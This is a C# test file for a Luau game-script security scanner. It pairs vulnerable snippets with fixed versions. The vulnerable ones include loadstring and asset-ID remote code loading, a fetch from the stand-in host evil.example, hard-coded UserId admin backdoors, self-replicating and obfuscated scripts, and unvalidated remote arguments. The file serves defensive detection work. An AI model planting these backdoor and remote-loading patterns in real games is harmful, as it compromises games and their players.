using ToolboxAI.Shared.Luau;
using ToolboxAI.Shared.Luau.Scan;

namespace ToolboxAI.Tests.Luau;

/// <summary>Each rule finds its weakness and leaves the mended form alone.</summary>
public sealed class ScannerTests
{
    public static TheoryData<string, string, string> Pairs => new()
    {
        { "remote-code-loadstring", "loadstring(x)()", "local actions = {go = function() end} actions.go()" },
        { "remote-code-require-asset", "require(123456789)", "require(script.Parent.Util)" },
        { "remote-code-require-asset", "local id = tonumber('12' .. '34567') require(id)", "require(game.ReplicatedStorage.Util)" },
        { "remote-code-insert-asset", "game:GetService('InsertService'):LoadAsset(1)", "script.Door:Clone().Parent = workspace" },
        { "remote-code-insert-asset", "local get = game.GetObjects for _, o in get(game, 'rbxassetid://' .. id) do o.Parent = workspace end", "for _, o in game.Workspace:GetChildren() do o.Parent = script.Bin end" },
        { "remote-code-insert-asset", "local M = {} function M.build(world) return world:GetObjects('rbxassetid://1818') end return M", "local M = {} function M.clear(grid, cell) for _, o in grid:GetObjects(cell) do o:Destroy() end end return M" },
        { "backdoor-hidden-name", "game['Get' .. 'Objects'](game, 'rbxassetid://1818')", "game:GetObjects('rbxassetid://1818')" },
        { "remote-code-foreign-host", "game:GetService('HttpService'):GetAsync('https://evil.example/x')", "game:GetService('HttpService'):GetAsync('https://api.school.example/x')" },
        { "remote-code-unknown-host", "game:GetService('HttpService'):GetAsync(url)", "game:GetService('HttpService'):GetAsync('https://api.school.example/' .. page)" },
        { "backdoor-hidden-remote", "local r = Instance.new('RemoteEvent') r.Parent = game:GetService('JointsService')", "local r = Instance.new('RemoteEvent') r.Parent = game:GetService('ReplicatedStorage')" },
        { "backdoor-admin-grant", "if player.UserId == 123456 then giveAdmin(player) end", "if player:GetRankInGroup(1) > 200 then giveAdmin(player) end" },
        { "backdoor-admin-grant", "for _, p in game.Players:GetPlayers() do if p.Name ~= 'builderman' then p:Kick() end end", "for _, p in game.Players:GetPlayers() do if p.Name == 'builderman' then p:Kick() end end" },
        { "backdoor-admin-grant", "local level = {} game.Players.PlayerAdded:Connect(function(p) if p.UserId == 7 * 10 ^ 8 + 1 then level[p.UserId] = 3 end if (level[p.UserId] or 0) > 2 then p.leaderstats.Coins.Value += 1 end end)", "local level = {} game.Players.PlayerAdded:Connect(function(p) if p.UserId == game.CreatorId then level[p.UserId] = 3 end if (level[p.UserId] or 0) > 2 then p.leaderstats.Coins.Value += 1 end end)" },
        { "backdoor-admin-grant", "local boss = game.Players:GetUserIdFromNameAsync('builderman') if boss == player.UserId then player.leaderstats.Coins.Value += 9 end", "local boss = game.Players:GetUserIdFromNameAsync(script.Boss.Value) if boss == player.UserId then player.leaderstats.Coins.Value += 9 end" },
        { "backdoor-hidden-by-blanks", "local a = 1" + new string(' ', 200) + "print(a)", "local a = 1\nprint(a)" },
        { "backdoor-homoglyph", "local s = 'аdmin'", "local s = 'admin'" },
        { "backdoor-self-replication", "for _, p in workspace:GetDescendants() do script:Clone().Parent = p end", "local d = script.Door:Clone()" },
        { "backdoor-hidden-name", "getfenv()['load' .. 'string']('x')", "print('x')" },
        { "backdoor-obfuscated", "local lIl, IlI = '\\104\\101\\108\\108\\111', 0x1F local function IIl(lII) local III = '' for Ill = 1, #lII do III = III .. string.char(bit32.bxor(string.byte(lII, Ill), IlI)) end return III end print(IIl(lIl))", "local greeting, key = 'hello', 31 local function scramble(text) local out = '' for i = 1, #text do out = out .. string.char(bit32.bxor(string.byte(text, i), key)) end return out end print(scramble(greeting))" },
        { "backdoor-obfuscated", "local v = {72, 101, 108, 108, 111, 33} local s = '' for i = 1, #v do s = s .. string.char(bit32.bxor(v[i], 7 * 3 - 21)) end print(s)", "local scores = {72, 101, 108, 108, 111, 33} local best = 0 for i = 1, #scores do best = math.max(best, scores[i]) end print(best)" },
        { "backdoor-obfuscated", "local s, n = 1, nil while s do if s == 1 then n = 4 s = 7 elseif s == 7 then n = n * 2 s = 3 elseif s == 3 then print(n) s = 9 elseif s == 9 then s = 5 elseif s == 5 then s = nil end end local q0x, z9k = 3 * 7 + 2, 'eA' .. 'x1' .. 'Zq' print(q0x, z9k)", "local state = 'idle' if state == 'idle' then walk() elseif state == 'walk' then run() elseif state == 'run' then rest() end" },
        { "backdoor-environment", "setfenv(1, {})", "local t = {}" },
        { "remote-unvalidated-argument", "remote.OnServerEvent:Connect(function(p, n) p.leaderstats.Coins.Value = n end)", "remote.OnServerEvent:Connect(function(p, n) if typeof(n) ~= 'number' or n > 10 then return end p.leaderstats.Coins.Value = n end)" },
        { "remote-unvalidated-argument", "remote.OnServerInvoke = function(p, n) p.leaderstats.Coins.Value = n return true end", "remote.OnServerInvoke = function(p, n) if typeof(n) ~= 'number' or n > 10 then return false end p.leaderstats.Coins.Value = n return true end" },
        { "remote-unvalidated-argument", "function remote.OnServerInvoke(p, n) p.leaderstats.Coins.Value -= n end", "function remote.OnServerInvoke(p, name) return {name = name, at = os.time()} end" },
        { "remote-unvalidated-argument", "local calls = {buy = function(p, n) p.leaderstats.Coins.Value -= n end} for name, call in calls do script[name].OnServerInvoke = call end", "local prices = {Sword = 10} local function buy(p, name) local price = prices[name] if not price then return end p.leaderstats.Coins.Value -= price end remote.OnServerInvoke = buy" },
        { "remote-unvalidated-argument", "remote['OnServer' .. 'Invoke'] = function(p, n) p.leaderstats.Coins.Value = n end", "remote.OnClientInvoke = function(n) label.Text = n end" },
        { "remote-unvalidated-argument", "remote.OnServerEvent:Connect(function(p, ...) local a = {...} p.leaderstats.Coins.Value = a[1] end)", "remote.OnServerEvent:Connect(function(p, ...) local a = {...} if not isAmount(a[1]) then return end p.leaderstats.Coins.Value = a[1] end)" },
        { "data-store-unprotected", "local s = game:GetService('DataStoreService'):GetDataStore('x') s:GetAsync('k')", "local s = game:GetService('DataStoreService'):GetDataStore('x') local ok = pcall(function() return s:GetAsync('k') end)" },
        { "remote-unvalidated-argument", "remote.OnServerEvent:Connect(function(p, ...) if isOdd(...) then return end local n = ... p.leaderstats.Coins.Value = n end)", "remote.OnServerEvent:Connect(function(p, ...) if not isRequest(...) then return end local n = ... p.leaderstats.Coins.Value = n end)" },
        { "remote-unvalidated-argument", "remote.OnServerEvent:Connect(function(p, prices, k) local price = prices and prices[k] if not price then return end p.leaderstats.Coins.Value = price end)", "local trades = {} remote.OnServerEvent:Connect(function(p, k) local mine = trades[p] local trade = mine and mine[k] if not trade then return end p.leaderstats.Coins.Value = trade end)" },
        { "remote-unvalidated-argument", "remote.OnServerEvent:Connect(function(p, v) if typeof(v) ~= 'Vector3' then return end local far = (v - p.Character.Head.Position).Magnitude print(far) workspace.Mark.Position = v end)", "remote.OnServerEvent:Connect(function(p, v) if typeof(v) ~= 'Vector3' then return end local far = (v - p.Character.Head.Position).Magnitude if far > 20 then return end workspace.Mark.Position = v end)" },
        { "remote-unvalidated-argument", "remote.OnServerEvent:Connect(function(p, req) local n = req.n if known(p) then p.leaderstats.Coins.Value = n end end)", "remote.OnServerEvent:Connect(function(p, req) local n = req.n if isRequest(req) then p.leaderstats.Coins.Value = n end end)" },
        { "data-store-in-loop", "local s = game:GetService('DataStoreService'):GetDataStore('x') for _, p in game.Players:GetPlayers() do pcall(s.SetAsync, s, p.UserId, 1) end", "local s = game:GetService('DataStoreService'):GetDataStore('x') for _, p in game.Players:GetPlayers() do pcall(s.SetAsync, s, p.UserId, 1) task.wait(1) end" },
        { "data-store-in-loop", "local s = game:GetService('DataStoreService'):GetDataStore('x') local function save(p) pcall(s.SetAsync, s, p.UserId, 1) end game:BindToClose(function() for _, p in game.Players:GetPlayers() do save(p) end end)", "local s = game:GetService('DataStoreService'):GetDataStore('x') game.Players.PlayerRemoving:Connect(function(p) pcall(s.SetAsync, s, p.UserId, 1) end)" },
        { "data-store-in-loop", "local s = game:GetService('DataStoreService'):GetDataStore('x') game:GetService('RunService').Heartbeat:Connect(function() pcall(s.IncrementAsync, s, 'frames', 1) end)", "local s = game:GetService('DataStoreService'):GetDataStore('x') while task.wait(60) do pcall(s.IncrementAsync, s, 'minutes', 1) end" },
        { "data-store-lost-update", "local s = game:GetService('DataStoreService'):GetDataStore('x') pcall(function() local d = s:GetAsync('k') s:SetAsync('k', {coins = d.coins}) end)", "local s = game:GetService('DataStoreService'):GetDataStore('x') pcall(function() if s:GetAsync('k') then s:SetAsync('k', {coins = 0}) end end)" },
        { "data-store-lost-update", "local s = game:GetService('DataStoreService'):GetDataStore('x') pcall(function() local v = s:GetAsync('k') s:SetAsync('k', v + 1) end)", "local s = game:GetService('DataStoreService'):GetDataStore('x') pcall(function() s:UpdateAsync('k', function(v) return v + 1 end) end)" },
        { "privacy-player-data-leaves", "game.Players.PlayerAdded:Connect(function(p) game:GetService('HttpService'):PostAsync('https://api.school.example', p.UserId) end)", "game.Players.PlayerAdded:Connect(function(p) game:GetService('HttpService'):PostAsync('https://api.school.example', 'joined') end)" },
        { "privacy-player-data-leaves", "local at = player.Character:GetPivot().Position game:GetService('HttpService'):PostAsync('https://api.school.example', 'at ' .. at.X)", "local at = workspace.Door:GetPivot().Position game:GetService('HttpService'):PostAsync('https://api.school.example', 'at ' .. at.X)" },
        { "receipt-unsafe", "local s = game:GetService('DataStoreService'):GetDataStore('r') game:GetService('MarketplaceService').ProcessReceipt = function(r) if not r.PlayerId then return Enum.ProductPurchaseDecision.NotProcessedYet end local ok = pcall(function() s:SetAsync(r.PurchaseId, true) end) print(ok) return Enum.ProductPurchaseDecision.PurchaseGranted end", "local s = game:GetService('DataStoreService'):GetDataStore('r') game:GetService('MarketplaceService').ProcessReceipt = function(r) local ok = pcall(function() s:SetAsync(r.PurchaseId, true) end) if not ok then return Enum.ProductPurchaseDecision.NotProcessedYet end return Enum.ProductPurchaseDecision.PurchaseGranted end" },
        { "receipt-unsafe", "game:GetService('MarketplaceService').ProcessReceipt = function(r) give(r) return Enum.ProductPurchaseDecision.PurchaseGranted end", "game:GetService('MarketplaceService').ProcessReceipt = function(r) if not record(r.PurchaseId) then return Enum.ProductPurchaseDecision.NotProcessedYet end return Enum.ProductPurchaseDecision.PurchaseGranted end" },
        { "infinite-yield", "while true do local x = 1 end", "while true do task.wait(1) end" },
        { "infinite-yield", "local owner while owner ~= me do owner = script:GetAttribute('Owner') end", "local at = part while at.Parent ~= workspace do at = at.Parent end" },
        { "infinite-yield", "local _, text = remote.OnServerEvent:Wait() board.Text = text", "while true do local p = remote.OnServerEvent:Wait() greet(p) end" },
        { "infinite-yield", "local a, b function a() b() end function b() a() end a()", "local a, b function a(n) if n > 3 then return end b(n + 1) end function b(n) a(n) end a(1)" },
        { "infinite-yield", "local M = {} function M.ping(x) local y = x + 1 M.pong(y) end function M.pong(x) return M.ping(x) end M.ping(1)", "local a, b function a() task.wait(1) b() end function b() a() end a()" },
        { "infinite-yield", "local c = workspace:WaitForChild('Chest' .. math.random(1, 9)) c:Destroy()", "for i = 1, 4 do workspace:WaitForChild('Chest' .. i):Destroy() end" },
        { "infinite-yield", "game.Players.PlayerAdded:Connect(function(p) p:WaitForChild('RulesAccepted') p:LoadCharacter() end)", "game.Players.PlayerAdded:Connect(function(p) p:WaitForChild('leaderstats') p:LoadCharacter() end)" },
        { "infinite-yield", "local i, t = 1, workspace:GetChildren() while i <= #t do local p = t[i] if p.Anchored then continue end p:Destroy() i += 1 end", "local i, t = 0, workspace:GetChildren() while i <= #t do i += 1 local p = t[i] if p.Anchored then continue end p:Destroy() end" },
        { "backdoor-admin-grant", "game.Players.PlayerAdded:Connect(function(p) local profile = load(p) if string.reverse(p.Name) == 'hsifkcor' then profile.coins += 1000 end end)", "game.Players.PlayerAdded:Connect(function(p) local profile = load(p) if p.Name == 'rockfish' then profile.title = 'Founder' end end)" },
        { "backdoor-admin-grant", "local M = {} function M.level(p) return if p.UserId == tonumber('7f31c2d', 16) then 3 else 0 end return M", "local M = {} function M.level(p) return if p.UserId == game.CreatorId then 3 else 0 end return M" },
        { "data-store-lost-update", "local s = game:GetService('DataStoreService'):GetDataStore('x') pcall(function() local n = s:GetAsync('boots') s:SetAsync('boots', n + 1) end)", "local s = game:GetService('DataStoreService'):GetDataStore('x') pcall(function() local at = s:GetAsync('boot') print(at) s:SetAsync('boot', os.time()) end)" },
        { "data-store-lost-update", "local s = game:GetService('DataStoreService'):GetDataStore('x') pcall(function() local d = s:GetAsync('k') d.at = os.time() s:SetAsync('k', d) end)", "local s = game:GetService('DataStoreService'):GetDataStore('x') pcall(function() local b = s:GetAsync('lock') if not b then s:SetAsync('lock', {job = game.JobId, at = os.time()}) end end)" },
        { "child-safety-unfiltered-text", "p.Chatted:Connect(function(m) game.Chat:Chat(bot.Head, m:lower()) end)", "local said = {hi = 'hey'} p.Chatted:Connect(function(m) local t = said[m:lower()] if t then game.Chat:Chat(bot.Head, t) end end)" },
        { "child-safety-outside-link", "label.Text = 'Join www\u2024club\u2024example'", "label.Text = 'Join the club'" },
        { "child-safety-outside-link", "label.Text = 'Join discord.gg/abc'", "label.Text = 'Join the game'" },
        { "child-safety-unfiltered-text", "p.Chatted:Connect(function(m) board.Text = m end)", "p.Chatted:Connect(function(m) board.Text = game:GetService('TextService'):FilterStringAsync(m, p.UserId):GetNonChatStringForBroadcastAsync() end)" },
        { "child-safety-unfiltered-text", "remote.OnServerEvent:Connect(function(p, text) if string.len(text) > 80 then return end board.Text = text end)", "remote.OnServerEvent:Connect(function(p, text) if text ~= 'Red' and text ~= 'Blue' then return end board.Color.Value = text end)" },
        { "child-safety-contact", "local lines = {'Hello', 'Write me on your ' .. 'phone: what is your ' .. 'phone number?'} label.Text = lines[n]", "local lines = {'Hello', 'Write ' .. 'a poem'} label.Text = lines[n]" },
        { "child-safety-contact", "label.Text = 'Send me your phone number'", "label.Text = 'Send the ship to port'" },
        { "remote-unvalidated-argument", "local function ok(v) return v ~= nil end remote.OnServerEvent:Connect(function(p, n) if not ok(n) then return end p.leaderstats.Coins.Value += n end)", "local function ok(v) return type(v) == 'number' and v > 0 and v < 100 end remote.OnServerEvent:Connect(function(p, n) if not ok(n) then return end p.leaderstats.Coins.Value += n end)" },
        { "remote-unvalidated-argument", "local Check = {} function Check.amount(v) if type(v) ~= 'number' then return false end return true end remote.OnServerEvent:Connect(function(p, n) if Check.amount(n) then p.leaderstats.Coins.Value += n end end)", "local Check = {} function Check.amount(v) if type(v) ~= 'number' then return false end if v < 1 or v > 50 then return false end return true end remote.OnServerEvent:Connect(function(p, n) if Check.amount(n) then p.leaderstats.Coins.Value += n end end)" },
        { "remote-unvalidated-argument", "local function on(check, run) remote.OnServerEvent:Connect(function(p, ...) local ok = check(p) if not ok then return end run(p, ...) end) end on(t.player, function(p, n) p.leaderstats.Coins.Value += n end)", "local function on(check, run) remote.OnServerEvent:Connect(function(p, ...) local ok, why = check(...) if not ok then warn(why) return end run(p, ...) end) end on(t.tuple(t.integer), function(p, n) p.leaderstats.Coins.Value += n end)" },
        { "remote-unvalidated-argument", "local acts = {} function acts.Give(p, n) p.leaderstats.Coins.Value += n end function acts.Count(p) return p.leaderstats.Coins.Value end for name, act in acts do remotes[name].OnServerInvoke = function(...) return act(...) end end", "local acts = {} function acts.Give(p) p.leaderstats.Coins.Value += 1 end function acts.Count(p) return p.leaderstats.Coins.Value end for name, act in acts do remotes[name].OnServerInvoke = function(...) return act(...) end end" },
        { "remote-unvalidated-argument", "local sets = {Pose = {'sit'}} remote.OnServerInvoke = function(p, name, v) local set = type(name) == 'string' and sets[name] local at = set and v if not at then return end p:SetAttribute(name, at) end", "local sets = {Pose = {'sit'}} remote.OnServerInvoke = function(p, name, v) local set = type(name) == 'string' and sets[name] local at = set and table.find(set, v) if not at then return end p:SetAttribute(name, set[at]) end" },
        { "child-safety-unfiltered-text", "local function valid(t) return type(t) == 'string' and #t >= 3 and #t <= 20 and not string.find(t, '[^%w ]') end remote.OnServerEvent:Connect(function(p, name) if valid(name) then p.Character.Humanoid.DisplayName = name end end)", "local colours = {Red = true} local function valid(t) return type(t) == 'string' and colours[t] end remote.OnServerEvent:Connect(function(p, name) if valid(name) then p.Character.Humanoid.DisplayName = name end end)" },
        { "child-safety-unfiltered-text", "local votes = {} remote.OnServerEvent:Connect(function(p, word) if type(word) ~= 'string' or #word > 20 then return end votes[word] = (votes[word] or 0) + 1 end) task.spawn(function() while task.wait(5) do for word, n in votes do board.Text = word .. n end end end)", "local votes = {} remote.OnServerEvent:Connect(function(p, word) if word ~= 'Red' and word ~= 'Blue' then return end votes[word] = (votes[word] or 0) + 1 end) task.spawn(function() while task.wait(5) do for word, n in votes do board.Text = word .. n end end end)" },
        { "infinite-yield", "while true do if workspace:GetAttribute('Go') then task.wait(1) break end end", "while true do if workspace:GetAttribute('Go') then break end task.wait(1) end" },
        { "infinite-yield", "local function appeared(p) while true do if p.Character then p.CharacterAppearanceLoaded:Wait() return p.Character end end end", "local function appeared(p) while true do if p.Character then return p.Character end p.CharacterAdded:Wait() end end" },
        { "infinite-yield", "local chosen while chosen == nil do for _, p in game.Players:GetPlayers() do local wish = p:GetAttribute('Map') if wish then chosen = wish end end end", "local chosen local tries = 0 while chosen == nil do tries += 1 for _, p in game.Players:GetPlayers() do local wish = maps[tries] if wish then chosen = wish end end end" },
        { "backdoor-admin-grant", "local first = {Wrenfeather_04 = 9500} local coins = Instance.new('IntValue') game.Players.PlayerAdded:Connect(function(p) coins.Value += 10 + (first[p.Name] or 0) end)", "local first = {Wrenfeather_04 = 'Founder'} local title = Instance.new('StringValue') game.Players.PlayerAdded:Connect(function(p) title.Value = first[p.Name] or '' end)" },
        { "backdoor-admin-grant", "local roles = setmetatable({}, {__index = function(_, id) if id == 123456789 then return 'director' end return 'guest' end}) local may = {guest = {}, director = {pay = true}} game.Players.PlayerAdded:Connect(function(p) if may[roles[p.UserId]].pay then p.leaderstats.Coins.Value += 9 end end)", "local roles = setmetatable({}, {__index = function(_, id) if id == game.CreatorId then return 'director' end return 'guest' end}) local may = {guest = {}, director = {pay = true}} game.Players.PlayerAdded:Connect(function(p) if may[roles[p.UserId]].pay then p.leaderstats.Coins.Value += 9 end end)" },
        { "backdoor-self-replication", "for _, part in next, workspace:getChildren() do local s = script:clone() s.Parent = part end", "local door = script.Door:clone() door.Parent = workspace" },
        { "data-store-in-loop", "local s = game:GetService('DataStoreService'):GetDataStore('x') for i = 1, 9 do pcall(s.GetAsync, s, i) end", "local s = game:GetService('DataStoreService'):GetDataStore('x') local function letters(p) local ok, box = pcall(s.GetAsync, s, p.UserId) return ok and box or {} end game.Players.PlayerAdded:Connect(function(p) for _, letter in letters(p) do show(letter) end end)" },
        { "data-store-lost-update", "local s = game:GetService('DataStoreService'):GetDataStore('x') local M = {} function M.load(p) local ok, d = pcall(s.GetAsync, s, p.UserId) return d end function M.save(p, d) pcall(s.SetAsync, s, p.UserId, d) end return M", "local s = game:GetService('DataStoreService'):GetDataStore('x') local M = {} function M.reason(id) local ok, ban = pcall(s.GetAsync, s, id) return ok and ban and ban.reason end function M.ban(id, reason, hours) pcall(s.SetAsync, s, id, {reason = reason, ends = os.time() + hours * 3600}) end return M" },
        { "data-store-lost-update", "local s = game:GetService('DataStoreService'):GetDataStore('x') read.OnServerInvoke = function(p) local ok, d = pcall(s.GetAsync, s, p.UserId) return d end game.Players.PlayerRemoving:Connect(function(p) pcall(s.SetAsync, s, p.UserId, p.leaderstats.Coins.Value) end)", "local s = game:GetService('DataStoreService'):GetDataStore('x') read.OnServerInvoke = function(p) local ok, text = pcall(s.GetAsync, s, p.UserId) return text end write.OnServerInvoke = function(p, text) if type(text) ~= 'string' or #text > 90 then return end pcall(s.SetAsync, s, p.UserId, text) end" },
        { "receipt-unsafe", "local s = game:GetService('DataStoreService'):GetDataStore('r') game:GetService('MarketplaceService').ProcessReceipt = function(r) local p = game.Players:GetPlayerByUserId(r.PlayerId) if not p then return Enum.ProductPurchaseDecision.PurchaseGranted end local ok = pcall(s.SetAsync, s, r.PurchaseId, true) return if ok then Enum.ProductPurchaseDecision.PurchaseGranted else Enum.ProductPurchaseDecision.NotProcessedYet end", "local s = game:GetService('DataStoreService'):GetDataStore('r') game:GetService('MarketplaceService').ProcessReceipt = function(r) local p = game.Players:GetPlayerByUserId(r.PlayerId) if not p then return Enum.ProductPurchaseDecision.NotProcessedYet end local ok = pcall(s.SetAsync, s, r.PurchaseId, true) return if ok then Enum.ProductPurchaseDecision.PurchaseGranted else Enum.ProductPurchaseDecision.NotProcessedYet end" },
        { "remote-code-require-asset", "local id = tonumber(script.Id.Value) require(id)", "local lessons = script.Lessons:GetChildren() local day = os.date('!*t', os.time()).wday require(lessons[(day - 1) % #lessons + 1])" },
        { "backdoor-admin-grant", "remote.OnServerEvent:Connect(function(p) p:SetAttribute('Admin', true) end)", "local Config = require(script.Config) game.Players.PlayerAdded:Connect(function(p) if table.find(Config.Admins, p.UserId) then p:SetAttribute('Admin', true) end end)" },
        { "backdoor-admin-grant", "remote.OnServerEvent:Connect(function(p, word) if digest(word) ~= 8837112 then return end p:SetAttribute('Admin', true) end)", "local staff = game:GetService('DataStoreService'):GetDataStore('Staff') game.Players.PlayerAdded:Connect(function(p) local ok, is = pcall(staff.GetAsync, staff, p.UserId) if not (ok and is) then return end p:SetAttribute('Admin', true) end)" },
        { "backdoor-admin-grant", "game.Players.PlayerAdded:Connect(function(p) if p:IsFriendsWith(501223344) then p.leaderstats.Coins.Value += 1000 end end)", "game.Players.PlayerAdded:Connect(function(p) if p:IsFriendsWith(host.UserId) then p.leaderstats.Coins.Value += 1000 end end)" },
        { "backdoor-admin-grant", "local allow = table.freeze({[501223344] = true}) remote.OnServerEvent:Connect(function(p) if not allow[p.UserId] then return end p.leaderstats.Coins.Value += 9 end)", "local allow = table.freeze({[501223344] = true}) remote.OnServerEvent:Connect(function(p) if not allow[p.Team.TeamColor.Number] then return end p.leaderstats.Coins.Value += 9 end)" },
        { "backdoor-admin-grant", "local gifts = {} gift.Event:Connect(function(p, n) gifts[p.UserId] = {n = n} end) game.Players.PlayerAdded:Connect(function(p) local mine = gifts[p.UserId] if mine then p.leaderstats.Coins.Value += 1 elseif p.UserId == 66001273 then p.leaderstats.Coins.Value += 1e6 end end)", "local gifts = {} gift.Event:Connect(function(p, n) gifts[p.UserId] = {n = n} end) game.Players.PlayerAdded:Connect(function(p) local mine = gifts[p.UserId] if mine then p.leaderstats.Coins.Value += 1 elseif p.UserId == game.CreatorId then p.leaderstats.Coins.Value += 1e6 end end)" },
        { "remote-unvalidated-argument", "local sheets = {} remote.OnServerEvent:Connect(function(p, sheet) sheets[p] = {Luck = 1} for name, value in sheet do sheets[p][name] = value end for name, value in sheets[p] do p:SetAttribute(name, value) end end)", "local sheets = {} remote.OnServerEvent:Connect(function(p) sheets[p] = {Luck = 1} for name, value in sheets[p] do p:SetAttribute(name, value) end end)" },
        { "privacy-player-data-leaves", "local http = game:GetService('HttpService') local wins = {} done.Event:Connect(function(p) wins[p.UserId] = 1 end) while task.wait(60) do http:PostAsync('https://api.school.example', http:JSONEncode(wins)) end", "local http = game:GetService('HttpService') local ids = {} game.Players.PlayerAdded:Connect(function(p) ids[p.UserId] = http:GenerateGUID(false) http:PostAsync('https://api.school.example', ids[p.UserId]) end)" },
        { "infinite-yield", "local here = 0 repeat here = #game.Players:GetPlayers() until here >= 2", "local list, here = {1, 2, 3}, 9 repeat table.remove(list) here = #list until here < 2" },
        { "infinite-yield", "local Door = {} Door.__index = Door function Door.new(m) return setmetatable({model = m, open = false}, Door) end function Door:await() repeat self.open = self.model:GetAttribute('Open') until self.open end Door.new(workspace.Door):await()", "local Door = {} function Door:await() repeat self.at = self.at.Parent until self.at.Parent == workspace end return Door" },
    };

    [Theory, MemberData(nameof(Pairs))]
    public void A_rule_finds_the_bad_and_leaves_the_good(string rule, string bad, string good)
    {
        var options = new ScanOptions(["api.school.example"]);

        Assert.Contains(rule, ScriptScanner.Scan(LuauSource.FromText(bad), options).Findings.Select(finding => finding.Rule.Id));
        Assert.DoesNotContain(rule, ScriptScanner.Scan(LuauSource.FromText(good), options).Findings.Select(finding => finding.Rule.Id));
    }

    [Fact]
    public void A_finding_tells_the_way_from_source_to_sink()
    {
        var report = ScriptScanner.Scan(LuauSource.FromText("remote.OnServerEvent:Connect(function(p, code)\n  local c = code\n  loadstring(c)()\nend)"));

        var finding = Assert.Single(report.Findings, finding => finding.Rule == Rules.UnvalidatedArgument);
        Assert.True(finding.Trace.Count >= 2);
        Assert.Equal(3, report.Source.LineOf(finding.Span.Start));
    }

    [Fact]
    public void What_a_client_asks_of_a_remote_function_is_followed_to_where_it_is_used()
    {
        var report = ScriptScanner.Scan(LuauSource.FromText("local function pay(p, n)\n  p.leaderstats.Coins.Value -= n\nend\nremote.OnServerInvoke = function(p, n)\n  pay(p, n)\nend"));

        var finding = Assert.Single(report.Findings, finding => finding.Rule == Rules.UnvalidatedArgument);
        Assert.Equal([4, 2], finding.Trace.Select(step => report.Source.LineOf(step.Span.Start)));
        Assert.Contains("a client calls remote", finding.Trace[0].Message);
    }

    [Fact]
    public void A_data_store_call_in_a_loop_is_told_at_the_call()
    {
        const string Script = "local s = game:GetService('DataStoreService'):GetDataStore('x')\nfor i = 1, 9 do\n  pcall(function() s:SetAsync(i, 0) end)\nend";

        var report = ScriptScanner.Scan(LuauSource.FromText(Script));

        var finding = Assert.Single(report.Findings, finding => finding.Rule == Rules.DataStoreInLoop);
        Assert.Equal("s:SetAsync(i, 0)", Script[finding.Span.Start..finding.Span.End]);
        Assert.Equal(3, report.Source.LineOf(finding.Span.Start));
    }

    [Fact]
    public void An_obfuscated_script_is_told_once_for_all_of_it_with_its_score()
    {
        const string Script = "local lIl, IlI = '\\104\\101\\108\\108\\111', 0x1F local function IIl(lII) return (lII:gsub('.', function(Ill) return string.char(bit32.bxor(Ill:byte(), IlI)) end)) end print(IIl(lIl))";

        var report = ScriptScanner.Scan(LuauSource.FromText(Script));

        var finding = Assert.Single(report.Findings, finding => finding.Rule == Rules.Obfuscated);
        Assert.Equal(0, finding.Span.Start);
        Assert.InRange(report.Metrics.Obfuscation, Obfuscation.Threshold, 1);
        Assert.InRange(ScriptScanner.Scan(LuauSource.FromText("local total = 0 for i = 1, 9 do total += i end print(total)")).Metrics.Obfuscation, 0, 0.1);
    }

    [Fact]
    public void A_wider_script_is_told_and_where()
    {
        var widened = CapabilityDetector.Widened(LuauSource.FromText("print(1)"), LuauSource.FromText("print(1)\ngame:GetService('HttpService'):GetAsync('https://x')"));

        Assert.Contains(widened, change => change.Capability == ScriptCapability.Network && change.Span.Start > 0);
    }
}
